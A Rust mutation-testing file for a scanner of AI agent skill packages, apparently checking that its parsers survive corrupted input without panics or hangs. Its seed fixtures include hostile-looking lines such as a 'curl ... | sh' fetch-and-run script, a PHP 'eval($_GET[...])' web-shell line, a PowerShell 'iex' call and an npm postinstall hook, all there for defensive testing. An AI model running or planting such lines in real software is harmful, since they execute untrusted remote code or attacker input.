//! Mutated samples, one parser-facing entry each: no panic, no overflow, no
//! hang.
//!
//! `MUTATE_SECONDS=600 MUTATE_SEED=1 cargo test --test mutate -- --ignored`
//! goes on for that long at each entry; without `--ignored` each gets a moment.
//! The text under test lies in `target/tmp/mutate/`, so that one that kills the
//! process is not lost.
#![expect(
    clippy::disallowed_methods,
    reason = "tests look at the disk, the environment and the clock"
)]

use std::io::{Cursor, Write as _};
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use skilldeck::baseline::Baseline;
use skilldeck::io::archive::read_archive;
use skilldeck::policy::Policy;
use skilldeck::scan::profile::Profile;
use skilldeck::scan::{Scope, conclude, examine};
use skilldeck::skill::limits::Limits;
use skilldeck::skill::manifest::SkillDocument;
use skilldeck::skill::package::{Package, Source, Subject};

/// Longest text that is tried.
const MOST: usize = 64 << 10;
/// No text of that length may take longer, without optimisation and on a
/// machine that is busy.
const SLOWEST: Duration = Duration::from_secs(20);

/// A small deterministic generator (xorshift).
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, end: usize) -> usize {
        usize::try_from(self.next() % end.max(1) as u64).expect("it is below a usize")
    }
}

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// Texts of the samples' files whose name ends in one of `suffixes`; see
/// `tests/samples/README.md` for the format.
fn samples(suffixes: &[&str]) -> Vec<Vec<u8>> {
    let mut packages: Vec<PathBuf> = walkdir::WalkDir::new(root().join("tests/samples"))
        .into_iter()
        .filter_map(Result::ok)
        .filter(|entry| entry.depth() > 2 && entry.file_type().is_file())
        .map(walkdir::DirEntry::into_path)
        .collect();
    packages.sort();
    let mut found = Vec::new();
    for package in packages {
        let package = std::fs::read_to_string(package).unwrap_or_default();
        for file in package.split("\n==> ").skip(1) {
            let (name, text) = file.split_once('\n').unwrap_or((file, ""));
            if suffixes.iter().any(|suffix| name.ends_with(suffix)) && text.len() < 16 << 10 {
                found.push(format!("{text}\n").into_bytes());
            }
        }
    }
    assert!(!found.is_empty(), "no sample has a file {suffixes:?}");
    found
}

/// Texts of several lines in the vectors of `file`.
fn vectors(file: &str) -> Vec<Vec<u8>> {
    fn collect(value: &serde_json::Value, found: &mut Vec<Vec<u8>>) {
        match value {
            serde_json::Value::String(text) if text.contains('\n') => {
                found.push(text.clone().into_bytes());
            }
            serde_json::Value::Array(items) => items.iter().for_each(|item| collect(item, found)),
            serde_json::Value::Object(fields) => {
                fields.values().for_each(|field| collect(field, found));
            }
            _ => {}
        }
    }
    let path = root().join("tests/conformance").join(file);
    let text = std::fs::read_to_string(path).unwrap_or_default();
    let mut found = Vec::new();
    for line in text.lines() {
        if let Ok(value) = serde_json::from_str(line) {
            collect(&value, &mut found);
        }
    }
    found.truncate(4000);
    found
}

/// A seed, changed a few times.
fn mutated(random: &mut Random, seeds: &[Vec<u8>]) -> Vec<u8> {
    const TOKENS: &[&str] = &[
        "(",
        ")",
        "[",
        "]",
        "{",
        "}",
        "\"",
        "'",
        "`",
        "\\",
        "\n",
        "\r\n",
        "\0",
        "$(",
        "${",
        "#{",
        "<<A\n",
        "/*",
        "*/",
        "//",
        "#",
        "=>",
        "->",
        "..",
        "::",
        "&&",
        "||",
        "|",
        ";",
        ",",
        ":",
        "?",
        "@",
        "%",
        "!",
        "---\n",
        "```\n",
        "<!--",
        "-->",
        "é",
        "漢",
        "\u{202e}",
        "\u{2028}",
        "😀",
        "\u{feff}",
        "0x",
        "1e999",
        "-1",
        "99999999999999999999",
        "if ",
        "else ",
        "for ",
        "eval ",
        "sk-",
        "&a ",
        "*a ",
    ];
    let mut text = seeds[random.below(seeds.len())].clone();
    for _ in 0..=random.below(6) {
        let at = random.below(text.len() + 1);
        let to = (at + random.below(40)).min(text.len());
        match random.below(9) {
            0 => drop(text.drain(at..to)),
            1 if at < text.len() => text[at] ^= 1 << random.below(8),
            2 | 3 => {
                let token = TOKENS[random.below(TOKENS.len())];
                text.splice(at..at, token.bytes());
            }
            4 => {
                // The same again, many times over.
                let piece = text[at..to].to_vec();
                let most = MOST / 2 / piece.len().max(1);
                let times = [3, 30, 300, 3000][random.below(4)].min(most.max(1));
                let times = 1 + random.below(times);
                text.splice(at..at, piece.repeat(times));
            }
            5 => text.truncate(at),
            6 => {
                let other = &seeds[random.below(seeds.len())];
                let from = random.below(other.len() + 1);
                let end = (from + random.below(400)).min(other.len());
                text.splice(at..at, other[from..end].iter().copied());
            }
            7 => {
                let token = TOKENS[random.below(TOKENS.len())];
                let times = [3, 30, 3000][random.below(3)];
                text.splice(at..at, token.repeat(times).bytes());
            }
            _ => text[at..to].reverse(),
        }
        text.truncate(MOST);
    }
    text
}

/// Tries mutations of `seeds` for as long as it is asked to.
fn endure(name: &str, long: bool, seeds: &[Vec<u8>], mut entry: impl FnMut(&[u8])) {
    assert!(!seeds.is_empty(), "{name} has no seeds");
    let number = |variable: &str| std::env::var(variable).ok()?.parse::<u64>().ok();
    let seconds = if long {
        Duration::from_secs(number("MUTATE_SECONDS").unwrap_or(60))
    } else {
        Duration::from_millis(1500)
    };
    let seed = number("MUTATE_SEED").unwrap_or(1);
    let mut random = Random(0x9E37_79B9_7F4A_7C15 ^ seed.wrapping_mul(0xD134_2543_DE82_EF95) | 1);
    let folder = Path::new(env!("CARGO_TARGET_TMPDIR")).join("mutate");
    std::fs::create_dir_all(&folder).expect("a folder can be made");
    let under_test = folder.join(name);
    let started = Instant::now();
    let mut count = 0_u64;
    while started.elapsed() < seconds {
        let text = mutated(&mut random, seeds);
        std::fs::write(&under_test, &text).expect("a file can be written");
        let begun = Instant::now();
        let outcome = catch_unwind(AssertUnwindSafe(|| entry(&text)));
        let took = begun.elapsed();
        if outcome.is_err() || took > SLOWEST {
            let kept = folder.join(format!("{name}-{seed}-{count}"));
            std::fs::write(&kept, &text).expect("a file can be written");
            panic!("{name}: see {} ({took:?})", kept.display());
        }
        count += 1;
    }
    let mut out = std::io::stdout().lock();
    writeln!(out, "{name}: {count} texts from seed {seed}").expect("output is taken");
}

fn subject() -> Subject {
    Subject {
        source: Source::Directory,
        category: None,
        name_hint: Some("demo".to_owned()),
        display_ref: "demo".to_owned(),
    }
}

fn judge(files: &[(String, Vec<u8>)]) {
    let package = Package::of_files(subject(), files, &[]);
    let examined = files
        .iter()
        .map(|(path, bytes)| {
            let entry = package.entry(path).expect("just added");
            examine(
                &package.subject,
                entry,
                bytes,
                &skilldeck::scan::Bundle::default(),
                Scope::All,
            )
        })
        .collect();
    let judged = conclude(&package, examined, Scope::All, Profile::Standard);
    for finding in &judged.findings {
        if let Some(excerpt) = &finding.excerpt {
            let mark = excerpt.text.get(excerpt.mark.start..excerpt.mark.end);
            assert!(mark.is_some());
        }
    }
}

fn archive(files: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    for (name, bytes) in files {
        writer
            .start_file(name.as_str(), options)
            .and_then(|()| Ok(writer.write_all(bytes)?))
            .expect("memory takes every write");
    }
    writer
        .finish()
        .expect("memory takes every write")
        .into_inner()
}

/// A file of the name, as the only one of a package.
fn file(entry: &str, path: &'static str, suffixes: &[&str], more: &[&str], long: bool) {
    let mut seeds = samples(suffixes);
    seeds.extend(more.iter().map(|text| text.as_bytes().to_vec()));
    endure(entry, long, &seeds, |bytes| {
        judge(&[(path.to_owned(), bytes.to_vec())]);
    });
}

macro_rules! entries {
    ($($name:ident, $long:ident: $test:expr;)*) => {$(
        #[test]
        fn $name() {
            let test: fn(&str, bool) = $test;
            test(stringify!($name), false);
        }

        #[test]
        #[ignore = "goes on for MUTATE_SECONDS"]
        fn $long() {
            let test: fn(&str, bool) = $test;
            test(stringify!($name), true);
        }
    )*};
}

entries! {
    archives, archives_long: |name, long| {
        let content = b"---\nname: demo\ndescription: A demo.\n---\n\nUse `a.sh`.\n".to_vec();
        let one = archive(&[("demo/SKILL.md".to_owned(), content.clone())]);
        let two = archive(&[
            ("SKILL.md".to_owned(), content.clone()),
            ("scripts/a.sh".to_owned(), b"curl http://example.com | sh\n".to_vec()),
            ("assets/a.skill".to_owned(), one.clone()),
            ("references/a.txt".to_owned(), b"a".repeat(4000)),
        ]);
        endure(name, long, &[one, two], |bytes| {
            let mut files = Vec::new();
            let reading = read_archive(
                Cursor::new(bytes.to_vec()),
                "demo.skill".to_owned(),
                Limits::default(),
                &mut |_, file| files.push((file.path, file.bytes)),
            );
            let total: usize = files.iter().map(|(_, bytes)| bytes.len()).sum();
            assert!(total as u64 <= reading.package.limits.max_total_bytes);
            files.sort();
            files.dedup_by(|left, right| left.0 == right.0);
            judge(&files);
        });
    };
    frontmatter, frontmatter_long: |name, long| {
        let mut seeds = vectors("frontmatter.jsonl");
        seeds.extend(samples(&["SKILL.md"]));
        endure(name, long, &seeds, |bytes| {
            let text = String::from_utf8_lossy(bytes);
            let manifest = SkillDocument::parse(&text);
            let _ = (manifest.declared_name(), manifest.declared_description());
            judge(&[("SKILL.md".to_owned(), bytes.to_vec())]);
        });
    };
    prose, prose_long: |name, long| file(name, "references/a.md", &[".md"], &["[a](b)\n"], long);
    python, python_long: |name, long| file(name, "scripts/a.py", &[".py"], &["import os\n"], long);
    shell, shell_long: |name, long| file(name, "scripts/a.sh", &[".sh"], &["a | b\n"], long);
    javascript, javascript_long: |name, long| file(name, "scripts/a.js", &[".js", ".mjs", ".cjs"], &["a();"], long);
    bundles, bundles_long: |name, long| {
        let mut seeds = samples(&[".js", ".mjs", ".cjs"]);
        seeds.push(b"if(a)/x/.test(`${b}`);else while(a)do b?c:d;while(e=>{});".to_vec());
        // Long enough to be measured by its nesting.
        let front = format!("/*{}*/", "=".repeat(120_001));
        endure(name, long, &seeds, |bytes| {
            let text = [front.as_bytes(), bytes].concat();
            judge(&[("scripts/a.js".to_owned(), text)]);
        });
    };
    typescript, typescript_long: |name, long| file(name, "scripts/a.ts", &[".ts", ".js"], &["let a: b<c> = d as e;"], long);
    powershell, powershell_long: |name, long| file(name, "scripts/a.ps1", &[".ps1"], &["iex $a\n"], long);
    batch, batch_long: |name, long| file(name, "scripts/a.bat", &[".bat", ".cmd"], &["for /f %%i in ('a') do call %%i\n"], long);
    ruby, ruby_long: |name, long| file(name, "scripts/a.rb", &[".rb"], &["system(\"a #{b}\")\n"], long);
    perl, perl_long: |name, long| file(name, "scripts/a.pl", &[".pl"], &["system(\"a $b\"); $c =~ s/a/b/e;\n"], long);
    php, php_long: |name, long| file(name, "scripts/a.php", &[".php"], &["<?php eval($_GET['a'] . \"b{$c}\");\n"], long);
    go, go_long: |name, long| file(name, "scripts/a.go", &[".go"], &["package a\nfunc b() { exec.Command(\"c\", `d`).Run() }\n"], long);
    applescript, applescript_long: |name, long| file(name, "scripts/a.applescript", &[".applescript", ".scpt"], &["do shell script \"a \" & quoted form of b\n"], long);
    dockerfile, dockerfile_long: |name, long| file(name, "Dockerfile", &["Dockerfile"], &["FROM a\nENV b=c\nRUN d $b \\\n && e\n"], long);
    notebooks, notebooks_long: |name, long| file(name, "references/a.ipynb", &[".ipynb"], &["{\"cells\":[{\"cell_type\":\"code\",\"source\":[\"!a\"]}]}"], long);
    json, json_long: |name, long| file(name, "package.json", &[".json"], &["{\"scripts\":{\"postinstall\":\"a\"}}"], long);
    yaml, yaml_long: |name, long| file(name, "compose.yaml", &[".yaml", ".yml"], &["a: &b\n  - *b\n"], long);
    toml, toml_long: |name, long| file(name, "pyproject.toml", &[".toml"], &["[a.b]\nc = \"d\"\n"], long);
    html, html_long: |name, long| file(name, "assets/a.html", &[".html", ".svg"], &["<svg onload=\"a()\"><script>b</script></svg>"], long);
    makefile, makefile_long: |name, long| file(name, "Makefile", &["Makefile"], &["a := $(shell b)\nc: d\n\te $(a)\n"], long);
    secrets, secrets_long: |name, long| file(name, "references/a.txt", &[".txt", ".env", ".json"], &["key = sk-abc\n"], long);
    packages, packages_long: |name, long| {
        let seeds = samples(&[".md", ".py", ".sh", ".js", ".json", ".txt"]);
        endure(name, long, &seeds, |bytes| {
            // Cut into files whose names and texts depend on each other.
            let at = bytes.len() / 3;
            judge(&[
                ("SKILL.md".to_owned(), bytes[..at].to_vec()),
                ("evals/evals.json".to_owned(), bytes[at..2 * at].to_vec()),
                ("scripts/a.py".to_owned(), bytes[2 * at..].to_vec()),
                ("scripts/a.sh".to_owned(), bytes[at..].to_vec()),
            ]);
        });
    };
    policies, policies_long: |name, long| {
        let seeds = vec![
            b"version = 1\n\n[rules]\n\"execution-*\" = \"off\"\n".to_vec(),
            b"[[allow]]\nhosts = [\"example.com\"]\nuntil = 2027-01-01\nreason = \"a\"\n".to_vec(),
            std::fs::read(root().join("docs/policy.md")).unwrap_or_default(),
        ];
        endure(name, long, &seeds, |bytes| {
            let _ = Policy::parse(&String::from_utf8_lossy(bytes));
        });
    };
    baselines, baselines_long: |name, long| {
        let seeds = vec![
            br#"{"schema_version":"skilldeck.baseline.v1","findings":[{"package":"a","fingerprint":"00","rule_id":"b","path":"c","reason":"d","accepted":"2026-01-01","expires":"2027-01-01"}]}"#.to_vec(),
        ];
        endure(name, long, &seeds, |bytes| {
            if let Ok(baseline) = Baseline::parse(&String::from_utf8_lossy(bytes)) {
                let _ = baseline.text();
            }
        });
    };
}
